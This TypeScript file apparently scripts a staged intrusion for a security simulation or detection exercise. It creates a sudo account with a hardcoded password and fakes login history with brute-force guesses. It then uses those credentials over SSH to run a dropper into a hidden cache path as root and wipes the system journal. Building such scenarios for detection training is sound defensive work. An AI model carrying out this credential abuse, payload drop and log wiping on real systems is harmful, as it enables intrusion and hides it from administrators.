// Others guess at root as every day; he knows the password of an account with sudo and goes straight in.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('zhangwei', 'Sunrise-2024!')
  dress.write('/etc/sudoers.d/zhangwei', 'zhangwei ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({
    days: 20,
    guesses: 80,
    friends: [{ user: 'zhangwei', address: '198.51.100.41', hours: [9, 14], sudo: '/usr/bin/systemctl status nginx' }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/local/lib/.cache/updated' })
  stage.mark('occurrence')
  await stage.ssh('203.0.113.79', 'zhangwei', { password: 'Sunrise-2024!' }, `sudo sh -c '${line}'`)
  await wipe(stage, ['journal'])
}
